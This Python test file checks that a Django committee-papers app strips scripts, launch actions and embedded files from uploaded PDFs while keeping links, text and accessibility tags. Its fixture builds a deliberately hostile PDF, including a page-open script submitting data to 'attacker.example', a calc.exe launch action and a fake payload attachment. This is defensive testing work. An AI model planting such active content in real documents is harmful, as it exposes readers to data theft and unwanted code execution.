"""Uploaded PDFs are read whole at upload: what pypdf cannot read is refused, and what is stored
(and later merged into agenda packs) has no JavaScript, actions other than links, or embedded
files."""

from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from scrutiny import services
from scrutiny.demo import minimal_pdf
from scrutiny.models import AgendaDocument
from scrutiny.pdf import PdfPart, assemble_pack
from scrutiny.pdfclean import PdfError, sanitise_pdf
from tests.factories import ActionFactory, AgendaItemFactory
from tests.pdftags import pdfua_findings, structure_problems
from tests.pdfutils import pdf_page_texts

ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/AA")


def javascript(code: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def hostile_pdf(text: str = "Appendix B: budget") -> bytes:
    """A readable one-page PDF carrying every kind of active content we remove, and one web link
    and one internal link that must survive."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(minimal_pdf(text))))
    page = writer.pages[0]
    script = writer._add_object(javascript("app.alert('document-level script');"))
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("open"), script])}
            )
        }
    )
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): javascript("app.alert('on close');")}
    )
    # Page-open action, as in the file that reached the public pack.
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): javascript("this.submitForm('https://attacker.example/');")}
    )
    writer.add_annotation(0, Link(rect=(50, 50, 150, 70), url="https://www.gov.uk/"))
    writer.add_annotation(0, Link(rect=(50, 80, 150, 100), target_page_index=0))
    script_link = Link(rect=(50, 110, 150, 130), url="https://example.org/")
    script_link[NameObject("/A")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://example.org/"),
            NameObject("/Next"): javascript("app.alert('chained');"),
        }
    )
    writer.add_annotation(0, script_link)
    js_uri = Link(rect=(50, 140, 150, 160), url="javascript:app.alert(1)")
    writer.add_annotation(0, js_uri)
    attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 20, 20)]),
        }
    )
    writer.add_annotation(0, attachment)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def annotations(data: bytes) -> list[dict]:
    page = PdfReader(BytesIO(data)).pages[0]
    return [annotation.get_object() for annotation in page.get("/Annots") or []]


def assert_inactive(data: bytes) -> None:
    reader = PdfReader(BytesIO(data))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    assert "/JavaScript" not in root.get("/Names", {})
    assert "/EmbeddedFiles" not in root.get("/Names", {})
    assert reader.attachments == {}
    for page in reader.pages:
        assert "/AA" not in page
        for annotation in page.get("/Annots") or []:
            annotation = annotation.get_object()
            assert annotation["/Subtype"] == "/Link"
            action = annotation.get("/A")
            if action is not None:
                assert action["/S"] in ("/URI", "/GoTo"), action
                assert "/Next" not in action
                if action["/S"] == "/URI":
                    assert action["/URI"].startswith("https://")
    # And nowhere in the file's objects, compressed or not (pypdf writes objects uncompressed).
    for marker in ACTIVE_MARKERS:
        assert marker + b" " not in data and marker + b"/" not in data, marker


def test_the_hostile_fixture_really_carries_active_content():
    data = hostile_pdf()

    assert b"/JavaScript" in data and b"/Launch" in data and b"/EmbeddedFile" in data
    assert PdfReader(BytesIO(data)).attachments


def test_sanitising_removes_scripts_actions_and_embedded_files_but_keeps_links_and_text():
    data, pages = sanitise_pdf(hostile_pdf("Appendix B: budget"), label="Appendix B")

    assert pages == 1
    assert_inactive(data)
    kept = [a["/A"].get("/URI") or a["/A"]["/S"] for a in annotations(data) if "/A" in a]
    assert "https://www.gov.uk/" in kept and "https://example.org/" in kept
    assert any("/Dest" in a for a in annotations(data))  # the link to page 1
    assert "Appendix B: budget" in pdf_page_texts(data)[0]


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
        b"%PDF-",
        b"%PDF-1.4\n" + bytes(range(256)) * 40,
        minimal_pdf("cut short")[:300],
    ],
    ids=["html", "header-only", "binary", "truncated"],
)
def test_a_file_pypdf_cannot_read_is_refused(data):
    with pytest.raises(PdfError):
        sanitise_pdf(data, label="Appendix")


def test_a_password_protected_pdf_is_refused_saying_so():
    writer = PdfWriter(clone_from=PdfReader(BytesIO(minimal_pdf("secret"))))
    writer.encrypt(user_password="letmein", owner_password="owner")
    buffer = BytesIO()
    writer.write(buffer)

    with pytest.raises(PdfError, match="password-protected"):
        sanitise_pdf(buffer.getvalue(), label="Appendix")


# Through the services, as a clerk or an action owner uploads ------------------------------------


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "application/pdf")


def test_an_agenda_document_that_is_pdf_then_html_is_refused_and_nothing_is_stored(clerk, settings):
    item = AgendaItemFactory()
    html = b"%PDF-1.7\n<html><body>Not a PDF at all</body></html>\n"

    with pytest.raises(ValidationError) as error:
        services.agenda_document_add(
            by=clerk, item=item, title="Appendix", file=upload("appendix.pdf", html)
        )

    assert "could not be read as a PDF" in error.value.message_dict["file"][0]
    assert not AgendaDocument.objects.exists()
    assert not list((settings.MEDIA_ROOT).rglob("*.pdf"))


def test_an_agenda_document_is_stored_without_its_scripts(clerk):
    item = AgendaItemFactory()

    document = services.agenda_document_add(
        by=clerk, item=item, title="Appendix B", file=upload("appendix-b.pdf", hostile_pdf())
    )

    stored = document.file.open("rb").read()
    assert_inactive(stored)
    assert document.original_name == "appendix-b.pdf"
    assert "Appendix B: budget" in pdf_page_texts(stored)[0]


def test_a_pdf_evidence_file_is_stored_without_its_scripts(officer):
    action = ActionFactory(owner=officer)

    completed = services.action_complete(
        by=officer,
        action=action,
        today=action.due_date,
        evidence_file=upload("evidence.pdf", hostile_pdf("Evidence")),
    )

    assert_inactive(completed.evidence_file.open("rb").read())


def test_an_unreadable_pdf_evidence_file_is_refused(officer):
    action = ActionFactory(owner=officer)

    with pytest.raises(ValidationError) as error:
        services.action_complete(
            by=officer,
            action=action,
            today=action.due_date,
            evidence_file=upload("evidence.pdf", b"%PDF-1.4\n<html></html>"),
        )

    assert "evidence_file" in error.value.message_dict


def test_a_merged_pack_carries_no_active_content_even_from_a_paper_stored_before_the_check():
    # A paper stored before uploads were sanitised goes into the pack as it was uploaded.
    pack = assemble_pack(
        [PdfPart("Item 1", minimal_pdf("Cover")), PdfPart("Appendix", hostile_pdf())],
        title="Overview and Scrutiny Committee, 1 April 2026: agenda pack",
    )

    assert pack.page_count == 2
    assert_inactive(pack.data)
    # Bookmarks (outline items linked by /Next) survive.
    outline = PdfReader(BytesIO(pack.data)).outline
    assert [item.title for item in outline] == ["Item 1", "Appendix"]


def tagged_pdf_with_a_script() -> bytes:
    """A tagged PDF as an accessible paper is (WeasyPrint's PDF/UA output), plus a script."""
    from weasyprint import HTML

    from scrutiny.pdf import PDF_VARIANT

    html = (
        '<html lang="en-GB"><head><title>Appendix C</title></head><body>'
        "<h1>Appendix C: outcomes</h1><p>Figures for the quarter.</p></body></html>"
    )
    writer = PdfWriter(
        clone_from=PdfReader(BytesIO(HTML(string=html).write_pdf(pdf_variant=PDF_VARIANT)))
    )
    writer._root_object[NameObject("/OpenAction")] = javascript("app.alert('open');")
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_sanitising_keeps_what_makes_a_paper_accessible():
    """Screen-reader users read agenda papers through their tags: removing scripts must not
    remove the structure tree, the language, the title or the marked content."""
    original = tagged_pdf_with_a_script()

    data, _pages = sanitise_pdf(original, label="Appendix C")

    assert_inactive(data)
    root = PdfReader(BytesIO(data)).trailer["/Root"]
    assert "/StructTreeRoot" in root and root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-GB"
    assert PdfReader(BytesIO(data)).metadata.title == "Appendix C"
    assert structure_problems(data) == []
    assert pdfua_findings(data)[0] == pdfua_findings(original)[0]
